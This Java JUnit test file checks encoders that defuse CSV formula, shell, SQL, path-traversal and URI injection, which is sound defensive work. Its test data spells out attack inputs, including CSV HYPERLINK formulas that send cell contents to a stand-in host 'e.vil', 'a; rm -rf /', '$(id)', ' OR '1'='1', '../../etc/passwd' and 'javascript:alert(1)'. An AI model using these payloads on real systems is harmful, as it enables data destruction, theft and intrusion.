package io.portreeve.controls.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class OtherSinksTest {
  private final CsvEncoder csv = new CsvEncoder();
  private final ShellEncoder shell = new ShellEncoder();
  private final SqlEncoder sql = new SqlEncoder();
  private final FileNameEncoder fileName = new FileNameEncoder();
  private final UriEncoder uri = new UriEncoder();

  static Stream<String> prose() {
    return BenignTexts.prose().stream();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://e.vil?x=\"&A1,\"ok\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+cmd",
        "\r=1+cmd",
        "\n=1+cmd",
        " =1+cmd",
        "\u00A0=1+cmd",
        "\uFEFF=1+cmd",
        "\u200B=1+cmd",
        "\"=1+cmd\"",
        "a,=1+cmd",
        "a;=1+cmd",
        "a\t=1+cmd",
        "a,\"=1+cmd\"",
        "a\n@x",
        "\uFF1D1+cmd",
        "\uFF0Bcmd",
        "\uFF20cmd",
        "=1",
        "+A1",
        "-A1"
      })
  void formula_getsAnApostropheBeforeIt(String attack) {
    Encoded result = csv.encode(attack);
    assertThat(result.found()).containsKey(TextFlaw.FORMULA);
    assertThat(cells(result.text())).noneMatch(OtherSinksTest::computed);
    assertThat(result.text().replace("'", "")).isEqualTo(attack.replace("'", ""));
  }

  /** What a parser of CSV, or an importer that takes all for one cell, would make a formula of. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"-1\"+cmd|' /C calc'!A1",
        "\"+1\" -HYPERLINK(A1)",
        "a,\"-1\"\"+x\"",
        "a,\"-1\n*cmd|' /C calc'!A1\",b",
        "-1\n*cmd|' /C calc'!A1",
        "\t-1\r\n/cmd|' /C calc'!A1",
        "-1\n\uFF0Acmd",
        "a,\"=\ncmd|' /C calc'!A1\",b",
        "a,\" \n--\ncmd|' /C calc'!A1\",b",
        "a,\"\t--\ncmd|' /C calc'!A1\",b",
        "=\nHYPERLINK(\"http://e.vil/?x=\"&B1,\"ok\")",
        "--\nHYPERLINK(A1)",
        "\n-----\nHYPERLINK(A1)",
        "+----+\n\nHYPERLINK(A1)",
        "=\r\ncmd",
        "=-\r\n1+cmd|' /C calc'!A1"
      })
  void formulaThatGoesOnBehindAQuoteOrALine_getsAnApostropheToo(String attack) {
    String first = attack.substring(0, first(attack));
    assertThat(csv.encode(attack).text()).isEqualTo(first + "'" + attack.substring(first.length()));
  }

  private static int first(String text) {
    int i = 0;
    while ("=+-".indexOf(text.charAt(i)) < 0) {
      i++;
    }
    return i;
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"-1,234.50\"",
        "a,\"-1\",\"+2\" ,\"-3\"\n",
        "-12.50\n+3\n-4",
        "-12.50,**\n",
        "-5\nfive",
        "Title\n-----\nText",
        "a\n=====\n\n+----+----+\n| a  | b  |\n+----+----+\n",
        "id,trend\n1,+\n2,-\n",
        "\"\",-----\nx",
        "\"a\"\n-5\nx",
        "-",
        "--\n",
        "-----\n====="
      })
  void numberOrRuleThatIsAllOfItsCell_staysAsItIs(String text) {
    SinkLaws.unchanged(csv, text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "1,Ann,-12.50\n2,\"Doe, Jane\",+3", "+49 (30) 123-456", "-5 %", "a=b", "x-y", "a@b.c",
            "-----",
        "=====", "+----+", "'=1", "5 - 3", "10:30", "-1.5e", ""
      })
  void numbersAndRulesAndWords_areNoFormulas(String text) {
    boolean exponent = text.equals("-1.5e");
    assertThat(csv.encode(text).found().isEmpty()).isEqualTo(!exponent);
  }

  @Test
  void csvLaws_hold() {
    SinkLaws.hold(csv, text -> assertThat(cells(text)).noneMatch(OtherSinksTest::computed));
  }

  /** Every cell of every way to split, trimmed like the most lenient importer. */
  private static List<String> cells(String text) {
    List<String> cells = new ArrayList<>();
    for (String delimiters : List.of("[\n\r]", "[,\n\r]", "[;\n\r]", "[\t\n\r]", "[,;\t\n\r]")) {
      for (String cell : text.split(delimiters, -1)) {
        cells.add(cell.replaceAll("^[\\s\\p{Z}\\p{Cf}\\p{Cc}\"]+", ""));
      }
    }
    for (char delimiter : new char[] {',', ';', '\t'}) {
      parsed(text, delimiter).forEach(cell -> cells.add(cell.strip()));
    }
    return cells;
  }

  /** The cells as a parser finds them that honours quotes (RFC 4180, leniently). */
  private static List<String> parsed(String text, char delimiter) {
    List<String> cells = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean open = false;
    boolean fresh = true;
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (c == '"' && (open || fresh)) {
        open = !open;
        fresh = false;
      } else if (!open && (c == delimiter || c == '\n' || c == '\r')) {
        cells.add(cell.toString());
        cell.setLength(0);
        fresh = true;
      } else {
        cell.append(c);
        fresh &= c == ' ';
      }
    }
    cells.add(cell.toString());
    return cells;
  }

  private static boolean computed(String cell) {
    return cell.matches("(?s)[=+@\\-＝＋－＠].*[A-Za-z0-9(].*")
        && !cell.matches("(?s)[+-][-+0-9.()/: \u00A0%€$,;]*\"?.{0}")
        && !cell.matches("(?s)[-+=|:\\s]*");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a; rm -rf /",
        "$(id)",
        "`id`",
        "a|b",
        "a&b",
        "a\nb",
        "it's",
        "'; id",
        "\"x\"",
        "*",
        "~root",
        "a b",
        "",
        "${IFS}",
        "a>b",
        "<(id)",
        "!x",
        "{a,b}",
        "#x",
        "\\",
        "'\\''; id",
        "=ls",
        "a\u00A0b"
      })
  void shellText_isOneWordThatMeansItself(String text) {
    assertThat(words(shell.encode(text).text())).containsExactly(text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"file.txt", "a-b_c", "user@host:/path", "KEY=value", "50%", "Übung.md", "1,2"})
  void plainShellWord_isTheSameInstance(String text) {
    SinkLaws.unchanged(shell, text);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "-x       | ./-x",
        "--exec=i | ./--exec=i",
        "-        | ./-",
        "'-x'     | ./-x",
        "-a b     | ./-a b"
      })
  void wordThatIsAnOption_becomesAFile(String text, String word) {
    assertThat(words(shell.encode(text).text())).containsExactly(word);
    assertThat(shell.encode(text).found()).containsKey(TextFlaw.SHELL_OPTION);
  }

  @Test
  void textThatArrivesQuoted_isTakenForEncodedAlready() {
    SinkLaws.unchanged(shell, "'; id; '");
    assertThat(words("'; id; '")).hasSize(1);
  }

  @Test
  void shellLaws_hold() {
    SinkLaws.hold(
        shell,
        text -> assertThat(words(text)).describedAs(() -> SinkLaws.escaped(text)).hasSize(1));
  }

  /**
   * POSIX word splitting with quote removal; a metacharacter outside quotes is a word of its own.
   */
  private static List<String> words(String line) {
    List<String> words = new ArrayList<>();
    StringBuilder word = new StringBuilder();
    boolean open = false;
    boolean any = false;
    for (int i = 0; i < line.length(); i++) {
      char c = line.charAt(i);
      if (c == '\'') {
        open = !open;
        any = true;
      } else if (!open && c == '\\' && i + 1 < line.length()) {
        word.append(line.charAt(++i));
        any = true;
      } else if (!open && "|&;<>()$`\"*?[]#~!{}\n\t ".indexOf(c) >= 0) {
        words.add("META");
      } else {
        word.append(c);
        any = true;
      }
    }
    if (any) {
      words.add(word.toString());
    }
    return open ? List.of("OPEN", "QUOTE") : words;
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      textBlock =
          """
          O'Brien           | O''Brien
          O''Brien          | O''Brien
          ' OR '1'='1       | '' OR ''1''=''1
          x\\               | x\\\\
          x\\'              | x\\\\''
          '''               | ''''
          xʼ y′ z＇ʹˈ        | x’ y’ z’’’
          x＼' y∖            | x⧵'' y⧵
          a -- b; /* c      | a -- b; /* c
          """)
  void sqlText_endsNoString(String raw, String expected) {
    assertThat(sql.encode(raw).text()).isEqualTo(expected);
  }

  @Test
  void sqlLaws_hold() {
    SinkLaws.hold(
        sql,
        text -> {
          assertThat(closes(text, false)).describedAs(() -> SinkLaws.escaped(text)).isFalse();
          assertThat(closes(text, true)).describedAs(() -> SinkLaws.escaped(text)).isFalse();
        });
  }

  /** Whether pasting {@code text} between quotes gives anything but one string. */
  private static boolean closes(String text, boolean backslashEscapes) {
    int i = 0;
    while (i < text.length()) {
      char c = text.charAt(i);
      if (c == '\\' && backslashEscapes) {
        if (i + 1 == text.length()) {
          return true;
        }
        i++;
      } else if (c == '\'') {
        if (i + 1 == text.length() || text.charAt(i + 1) != '\'') {
          return true;
        }
        i++;
      }
      i++;
    }
    return false;
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      textBlock =
          """
          ../../etc/passwd     | .._.._etc_passwd
          ..                   | __
          .                    | _
          a/b                  | a_b
          a\\b                 | a_b
          a／b                 | a_b
          ‥                    | _
          NUL                  | _NUL
          con.txt              | _con.txt
          COM1                 | _COM1
          COM１                | _COM１
          ｎｕｌ.txt           | _ｎｕｌ.txt
          ．．                 | __
          ․․                   | __
          a．                  | a_
          －rf                 | _－rf
          LPT³.log             | _LPT³.log
          file.txt::$DATA      | file.txt__$DATA
          -rf                  | _-rf
          ~root                | _~root
          name.                | name_
          `name `              | name_
          a\tb                 | a_b
          ``                   | _
          x\u202Egpj.exe       | xgpj.exe
          """)
  void fileName_isOneNameOnEverySystem(String raw, String expected) {
    assertThat(fileName.encode(raw).text()).isEqualTo(expected);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Report 2024.pdf",
        "Übergrößenträger.txt",
        "報告書（最終）.docx",
        "cat 😺.png",
        ".gitignore",
        "a.b.c",
        "O'Brien & Sons [v2] #1.txt",
        "café",
        "console.log",
        "com10.txt",
        "nullable.kt"
      })
  void commonFileName_isTheSameInstance(String text) {
    SinkLaws.unchanged(fileName, text);
  }

  @Test
  void fileNameLaws_hold() {
    SinkLaws.hold(
        fileName,
        name -> {
          assertThat(name).isNotEmpty().doesNotContain("/", "\\", ":", "\n").isNotIn(".", "..");
          assertThat(name.getBytes(StandardCharsets.UTF_8)).hasSizeLessThanOrEqualTo(255);
          assertThat(name).doesNotEndWith(".").doesNotStartWith("-");
        });
  }

  @Test
  void longFileName_isCutBetweenCharacters() {
    String name = fileName.encode("😺".repeat(500)).text();
    assertThat(name).isEqualTo("😺".repeat(60));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      textBlock =
          """
          javascript:alert(1)    | unsafe:javascript:alert(1)
          `java\nscript:x`       | unsafe:java%0Ascript:x
          ` https://a.b/c `      | https://a.b/c
          https://a.b/c d        | https://a.b/c%20d
          https://a.b/<x>        | https://a.b/%3Cx%3E
          \\\\e.vil\\x           | %5C%5Ce.vil%5Cx
          data:text/html,x       | unsafe:data:text/html,x
          myapp:x                | unsafe:myapp:x
          file:///etc/passwd     | unsafe:file:///etc/passwd
          """)
  void uri_goesToTheWebOrNowhere(String raw, String expected) {
    assertThat(uri.encode(raw).text()).isEqualTo(expected);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://example.com:8443/a/b;c=1?q=x%20y&z=%C3%BC#frag",
        "/a/b",
        "#x",
        "mailto:a@b.c?subject=x",
        "https://müller.example/straße",
        "tel:+49-30-1",
        "http://[::1]:80/"
      })
  void commonUri_isTheSameInstance(String text) {
    SinkLaws.unchanged(uri, text);
  }

  @Test
  void uriLaws_hold() {
    SinkLaws.hold(
        uri,
        text -> {
          assertThat(text).doesNotContainPattern("[\\x00-\\x20\\x7F]");
          assertThat(text.toLowerCase(java.util.Locale.ROOT))
              .doesNotMatch("(?s)(javascript|vbscript|data|file):.*");
        });
  }

  @ParameterizedTest
  @MethodSource("prose")
  void proseInASqlString_keepsAllButItsQuotes(String text) {
    assertThat(sql.encode(text).text().replace("''", "'").replace('’', '\''))
        .isEqualTo(text.replace('′', '\'').replace('’', '\''));
  }

  @Test
  void encodersInARow_reportTheFindingsOfAll() {
    Encoded result = new ModelEncoder().then(csv).encode("=a\u200B\u200B,=b");
    assertThat(result.text()).isEqualTo("'=a,'=b");
    assertThat(result.found())
        .containsEntry(TextFlaw.ZERO_WIDTH, 2)
        .containsEntry(TextFlaw.FORMULA, 2);
  }
}
